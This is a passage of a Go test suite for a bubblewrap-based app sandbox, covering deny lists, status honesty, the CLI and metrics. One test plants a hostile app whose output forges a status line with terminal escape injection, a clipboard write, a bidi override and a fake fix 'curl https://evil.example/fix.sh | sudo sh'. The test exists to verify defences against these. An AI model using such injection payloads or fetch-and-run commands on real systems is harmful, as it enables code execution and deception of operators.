	s.mustGet(fmt.Sprintf("/erin/keep?addr=127.0.0.2:%d&name=two", p2), "got: kept")
	s.mustGet("/erin/kept?name=two&send=a", "got: echo: a")
	if err := os.WriteFile(cfg, []byte(`{"deny":["127.0.0.2/32"]}`), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := s.sb.Process.Signal(syscall.SIGHUP); err != nil {
		t.Fatal(err)
	}
	waitFor(t, "the switchboard to reload", 10*time.Second, func() bool { return strings.Contains(s.sbLog.String(), "config reloaded") })
	if _, got := s.get("/erin/kept?name=two&send=b"); strings.Contains(got, "echo: b") {
		t.Errorf("the connection to the denied address still works: %q", got)
	}
	s.mustGet("/erin/kept?name=one&send=c", "got: echo: c")
	if _, got := s.get(fmt.Sprintf("/erin/tcp?addr=127.0.0.2:%d&send=d", p2)); !strings.Contains(got, "deny list") {
		t.Errorf("a new connection to the denied address: %q; want refused for the deny list", got)
	}
	if got := s.status("erin")["pid"]; got != pid {
		t.Errorf("erin's pid %v became %v: it was restarted", pid, got)
	}
	wantIn(t, "the switchboard's log", s.sbLog.String(), `"op":"revoke"`, "the deny list changed")
}

// TestStatusTellsTheTruth: the status never claims more than is enforced.
// Kill a vat's bubblewrap, then its toybox-entry (the wall's pid 1): each
// time the word leaves "walled" within a second. Kill the switchboard: the
// page says within a second that it is not answering and that the vat can
// reach nothing right now; the vat is still walled (it is: its wall
// stands), and never called more.
func TestStatusTellsTheTruth(t *testing.T) {
	s := newStack(t, stackOpts{})
	port := lineEcho(t, "127.0.0.1:0")
	s.mustInstall("erin", example(t, "egress-probe"), q("egress", fmt.Sprintf(`{"host":"127.0.0.1","port":%d}`, port)))
	within := func(what string, ok func() bool) {
		t.Helper()
		start := time.Now()
		for !ok() {
			if time.Since(start) > time.Second {
				t.Fatalf("%s: not within a second", what)
			}
			time.Sleep(10 * time.Millisecond)
		}
	}
	walled := func() bool { return s.status("erin")["status"] == "walled" }
	for _, victim := range []string{"bwrap", "toybox-entry"} {
		waitFor(t, "erin to be walled", 30*time.Second, walled)
		bwrap := int(s.status("erin")["pid"].(float64))
		pid := bwrap
		if victim == "toybox-entry" {
			pid = 0
			for _, d := range descendants(bwrap) {
				if comm, _ := os.ReadFile(fmt.Sprintf("/proc/%d/comm", d)); strings.TrimSpace(string(comm)) == "toybox-entry" {
					pid = d
					break
				}
			}
			if pid == 0 {
				t.Fatalf("no toybox-entry under bwrap %d", bwrap)
			}
		}
		if err := syscall.Kill(pid, syscall.SIGKILL); err != nil {
			t.Fatalf("killing %s (%d): %v", victim, pid, err)
		}
		// It leaves "walled", or is back walled in a new wall already.
		within("after killing "+victim+" the word changes", func() bool {
			st := s.status("erin")
			return st["status"] != "walled" || st["pid"] != float64(bwrap)
		})
	}
	waitFor(t, "erin to be walled", 30*time.Second, walled)
	page := func() map[string]any {
		_, body := s.adminDo("GET", "/ui/status.json", nil)
		var p map[string]any
		if err := json.Unmarshal([]byte(body), &p); err != nil {
			t.Fatalf("status.json: %v: %s", err, body)
		}
		return p
	}
	if up := page()["host"].(map[string]any)["switchboard_up"]; up != true {
		t.Fatalf("the switchboard answers, the page says switchboard_up=%v", up)
	}
	_ = s.sb.Process.Kill()
	_ = s.sb.Wait()
	s.sb = nil
	within("after killing the switchboard the page says it does not answer", func() bool {
		return page()["host"].(map[string]any)["switchboard_up"] == false
	})
	p := page()
	host, _ := json.Marshal(p["host"])
	vats, _ := json.Marshal(p["vats"])
	wantIn(t, "the page's host", string(host), "not answering")
	wantIn(t, "erin on the page", string(vats), "it can reach nothing right now: the switchboard is not answering", "Right now it can reach nothing")
	if st := s.status("erin"); st["status"] != "walled" {
		t.Errorf("erin with the switchboard gone = %v; want walled (its wall stands)", st["status"])
	}
	out, _ := exec.Command(filepath.Join(bins, "toybox"), "reach", "--admin", s.admin, "erin").CombinedOutput()
	wantIn(t, "toybox reach erin", string(out), "the switchboard is not answering")
}

// TestOperatorCLI: toybox help lists every command, each takes --help
// (exit 0), an unknown one exits 2; status --json is the page's JSON;
// reach says what a vat reaches; the metrics are Prometheus text.
func TestOperatorCLI(t *testing.T) {
	tb := filepath.Join(bins, "toybox")
	run := func(args ...string) (string, int) {
		out, err := exec.Command(tb, args...).CombinedOutput()
		code := 0
		if ee, ok := errors.AsType[*exec.ExitError](err); ok {
			code = ee.ExitCode()
		} else if err != nil {
			t.Fatal(err)
		}
		return string(out), code
	}
	help, code := run("help")
	cmds := []string{"serve", "status", "reach", "install", "import", "egress", "doctor", "completion", "help"}
	for _, c := range cmds {
		if !strings.Contains(help, "  "+c+" ") {
			t.Errorf("toybox help does not list %s:\n%s", c, help)
		}
		if out, code := run(c, "--help"); code != 0 || !strings.Contains(out, "usage: toybox "+c) {
			t.Errorf("toybox %s --help = %d %q; want 0 and its usage", c, code, out)
		}
	}
	if code != 0 {
		t.Errorf("toybox help exited %d", code)
	}
	for _, h := range []string{"--help", "-h"} {
		if out, code := run(h); code != 0 || out != help {
			t.Errorf("toybox %s = %d; want the same as toybox help", h, code)
		}
	}
	if _, code := run("frobnicate"); code != 2 {
		t.Errorf("an unknown command exited %d; want 2", code)
	}
	if out, code := run("completion", "bash"); code != 0 || !strings.Contains(out, "complete -F _toybox toybox") || !strings.Contains(out, "reach") {
		t.Errorf("toybox completion bash = %d %q", code, out)
	}

	s := newStack(t, stackOpts{})
	s.mustInstall("erin", example(t, "egress-probe"), q("egress", `{"scheme":"https","host":"api.example.com"}`))
	out, code := run("status", "--admin", s.admin)
	if code != 0 {
		t.Fatalf("toybox status = %d %s", code, out)
	}
	wantIn(t, "toybox status", out, "walls: on", "switchboard: answering", "erin", "walled", "HTTPS to api.example.com")
	out, _ = run("status", "--admin", s.admin, "--json", "erin")
	var page map[string]any
	if err := json.Unmarshal([]byte(out), &page); err != nil || page["vats"] == nil {
		t.Errorf("toybox status --json = %q (%v)", out, err)
	}
	if _, code := run("status", "--admin", s.admin, "nobody"); code != 1 {
		t.Errorf("toybox status nobody exited %d; want 1", code)
	}
	out, _ = run("reach", "--admin", s.admin, "--lang", "es", "erin")
	wantIn(t, "toybox reach --lang es erin", out, "erin está amurallado", "HTTPS a api.example.com", "Nada más")

	_, m := s.adminDo("GET", "/metrics", nil)
	for _, want := range []string{
		"# TYPE toybox_egress_decisions_total counter", "# TYPE toybox_vats gauge", `toybox_vats{status="walled"} 1`,
		"# TYPE toybox_vat_spawn_duration_seconds histogram", `toybox_vat_spawn_duration_seconds_bucket{result="ok",le="+Inf"}`,
		"# TYPE toybox_vat_install_duration_seconds histogram", `toybox_vat_install_duration_seconds_count{result="ok"} 1`,
		`toybox_vat_restarts{vat="erin"} 0`, "toybox_switchboard_up 1",
	} {
		if !strings.Contains(m, want) {
			t.Errorf("GET /metrics lacks %q:\n%s", want, m)
		}
	}
	// Every line is a comment or "name{labels} value".
	for _, l := range strings.Split(strings.TrimSpace(m), "\n") {
		if strings.HasPrefix(l, "# HELP ") || strings.HasPrefix(l, "# TYPE ") {
			continue
		}
		name, _, _ := strings.Cut(l, "{")
		if i := strings.LastIndexByte(l, ' '); i < 0 || !strings.HasPrefix(name, "toybox_") {
			t.Errorf("metrics line %q is not a sample", l)
		}
	}
	// The page's names are no vat's.
	if code, _ := s.install("ui", example(t, "counter-v1"), ""); code != http.StatusBadRequest {
		t.Errorf("PUT /ui = %d; want 400 (the status page's path)", code)
	}
}

// TestAVatsBwrapLineIsItsOwn: the wall takes a "bwrap: " line of the
// output its app shares with bubblewrap as bubblewrap's only when its
// toybox-entry never ran (it answers before it starts the app). An app
// that crashes once, then prints such a line with more in it (an OSC 52
// clipboard write, "erase line" and a carriage return that would overwrite
// the status line with a forged one, a bidi override, and a "fix: " the
// Fix-it card would show as toybox's remedy) and exits, again and again,
// has crashed: it is never "off: it could not run inside its wall", whose
// Fix-it card offers to run it without the wall, and none of those bytes
// reach the status, the page's facts, the CLI or the journal.
func TestAVatsBwrapLineIsItsOwn(t *testing.T) {
	aVatsBwrapLineIsItsOwn(t, newStack(t, stackOpts{}))
}

// TestAVatsBwrapLineIsItsOwnWithoutCgroups: the same on a host whose walls
// get no cgroup, so no task fence: the entry's answer does not need one.
func TestAVatsBwrapLineIsItsOwnWithoutCgroups(t *testing.T) {
	s := newStack(t, stackOpts{noCgroups: true})
	if !strings.Contains(s.tbLog.String(), "walls run without a tasks limit") {
		t.Fatalf("toybox found cgroups for tasks; want none:\n%s", s.tbLog.String())
	}
	aVatsBwrapLineIsItsOwn(t, s)
}

func aVatsBwrapLineIsItsOwn(t *testing.T, s *stack) {
	t.Helper()
	app := filepath.Join(t.TempDir(), "app.sh")
	script := "#!/bin/sh\n" +
		"if [ -e \"$TOYBOX_DATA/once\" ]; then\n" +
		"  printf 'bwrap: execvp /proc/self/fd/7: \\033]52;c;ZWNobyBwd25lZA==\\007\\033[2K\\rzed  walled  ok \\342\\200\\256evil; fix: curl https://evil.example/fix.sh | sudo sh\\n' >&2\n" +
		"  exit 1\n" +
		"fi\n" +
		": >\"$TOYBOX_DATA/once\"\n" +
		"exit 1\n"
	if err := os.WriteFile(app, []byte(script), 0o755); err != nil {
		t.Fatal(err)
	}
	s.install("mallory", app, "")
	var st map[string]any
	waitFor(t, "mallory to crash with its line three times", 60*time.Second, func() bool {
		st = s.status("mallory")
		if st["status"] == "off: it could not run inside its wall" {
			t.Fatalf("mallory's own bwrap line turned it off as a wall failure: %v", st)
		}
		r, _ := st["restarts"].(float64)
		return r >= 3
	})
	_, body := s.adminDo("GET", "/ui/status.json", nil)
	var page struct {
		Vats []struct {
			FixIt json.RawMessage `json:"fixit"`
			Facts json.RawMessage `json:"facts"`
		} `json:"vats"`
	}
	if err := json.Unmarshal([]byte(body), &page); err != nil || len(page.Vats) != 1 {
		t.Fatalf("status.json = %s (%v); want mallory", body, err)
	}
	if page.Vats[0].FixIt != nil {
		t.Errorf("mallory has a Fix-it card for its own line: %s", page.Vats[0].FixIt)
	}
	code, out := toyboxCLI(t, "status", "--admin", s.admin, "mallory")
	if code != 0 || strings.Count(out, "\n") != 1 {
		t.Errorf("toybox status mallory = %d %q; want 0 and one line", code, out)
	}
	for what, text := range map[string]string{
		"last_exit": fmt.Sprint(st["last_exit"]), "last_error": fmt.Sprint(st["last_error"]),
		"the page's facts": string(page.Vats[0].Facts), "toybox status": out, "the supervisor's log": s.tbLog.String(),
	} {
		for _, bad := range []string{"\x1b", "\\u001b", "\r", "\\r", "\u202e", "\\u202e", "evil", "bwrap: execvp"} {
			if strings.Contains(text, bad) {
				t.Errorf("%s holds the app's %q:\n%s", what, bad, text)
			}
		}
	}
}
